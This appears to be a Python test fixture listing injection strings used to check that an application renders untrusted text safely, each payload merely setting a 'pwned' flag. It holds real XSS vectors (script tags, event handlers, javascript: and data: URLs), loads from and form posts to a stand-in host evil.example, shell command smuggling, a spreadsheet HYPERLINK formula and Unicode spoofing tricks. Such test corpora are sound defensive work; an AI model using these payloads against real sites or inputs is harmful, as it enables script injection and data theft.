"""Texts that want to be more than text, each by another way. What runs sets `pwned`.

They are used as names too, so none is longer than 255 characters; LONG holds those that are.
"""

PICTURE = "<img src=x onerror=pwned=1>"

CORPUS = {
    # script
    "script": "<script>pwned=1</script>",
    "script in odd case": "<ScRiPt >pwned=1</sCrIpT\t>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "module": "<script type=module>globalThis.pwned=1</script>",
    "out of a script": "</script><script>pwned=1</script>",
    "out of a string": "';pwned=1;//\";pwned=1;//`;pwned=1;//",
    "out of a comment": f"*/pwned=1;/*--><!-->{PICTURE}-->",
    # markup
    "picture": PICTURE,
    "svg": "<svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "script in svg": "<svg><script>pwned=1</script></svg>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "frame with a url": "<iframe src=javascript:parent.pwned=1></iframe>",
    "object": "<object data=javascript:pwned=1></object><embed src=javascript:pwned=1>",
    "toggle": "<details open ontoggle=pwned=1>",
    "focus": "<input autofocus onfocus=pwned=1>",
    "media": "<video><source onerror=pwned=1></video><audio src=x onerror=pwned=1>",
    "animation": "<p style='animation:x' onanimationstart=pwned=1><style>@keyframes x{}</style>",
    "style": "<style>@import 'http://evil.example/x.css';*{display:none}</style>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "base": "<base href=http://evil.example/>",
    "form": "<form action=http://evil.example/><button autofocus>ok</button></form>",
    "template": f"<template>{PICTURE}</template><slot onslotchange=pwned=1>",
    "noscript": f'<noscript><p title="</noscript>{PICTURE}">',
    "math": f"<math><mtext><table><mglyph><style><!--</style>{PICTURE}-->",
    "cdata": f"<![CDATA[{PICTURE}]]><?php pwned ?><!DOCTYPE x>",
    "custom element": "<x-y onclick=pwned=1 tabindex=0 autofocus onfocus=pwned=1>z</x-y>",
    "out of a title": f"</title></textarea></style></noscript>{PICTURE}",
    "never closed": "<img src=x onerror=pwned=1 //",
    # attribute
    "out of double quotes": '" autofocus onfocus="pwned=1',
    "out of single quotes": "' autofocus onfocus='pwned=1",
    "out of no quotes": "x onmouseover=pwned=1 style=position:fixed;inset:0",
    "out of a tag": f'">{PICTURE}',
    "style in an attribute": 'red;background:url(http://evil.example/x.png)" x="',
    # URL
    "script as a url": "javascript:pwned=1",
    "script as a url, hidden": "\x01jAvA\tsCrIpT\n:pwned=1",
    "data as a url": "data:text/html,<script>parent.pwned=1</script>",
    "other host": "//evil.example/x",
    "other page": "../../../#/tasks?q=%00",
    "bad percent": "%E0%A4%A% %",
    "percent": "%3Cscript%3Epwned=1%3C/script%3E",
    # template and replacement
    "braces": "{{constructor.constructor('pwned=1')()}}{%raw%}[[pwned=1]]",
    "dollar": "${pwned=1}#{pwned=1}<%= pwned=1 %>",
    "replacement": "$&$1$`$'$$",
    # entities and escapes
    "entities": "&lt;img src=x onerror=pwned=1&gt;&#60;b&#62;&amp;&nbsp;",
    "escapes": "\\u003cimg src=x onerror=pwned=1\\u003e\\x3cb\\x3e\\",
    # names that JavaScript knows
    "prototype": "__proto__",
    "constructor": "constructor",
    "method": "toString",
    "nothing": "undefined",
    # the query box, event streams, shells, spreadsheets
    "query": 'state:failed "name:\\" x',
    "frame of a stream": "x\n\nevent: bye\ndata: {}\n\n",
    "shell": "'; touch pwned; $(touch pwned) `touch pwned` | touch pwned & !! #",
    "option": "--help",
    "formula": '=HYPERLINK("http://evil.example","x")',
    # characters
    "right to left": "photo\u202egpj.exe\u2066x",
    "nothing to see": "a\u200b\u200d\ufeff\u00ad\u2060b",
    "stacked marks": "Z" + "\u0310\u0325\u0339" * 30,
    "line ends": "a\u2028b\u2029c\x85d\re",
    "controls": "\x00\x07\x08\x1b[31mred\x1b[0m\x7f\x9b31m",
    "wide": "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "beyond the plane": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U00020000\U0010ffff",
    "no letter to break at": "W" * 255,
}

LONG = {
    "long word": "w" * 20_000,
    "long line": "many words " * 2_000,
    "many lines": "line\n" * 2_000,
    "deep markup": "<b>" * 5_000,
    "long script": f"<script>{'/' * 5_000}\npwned=1</script>",
}
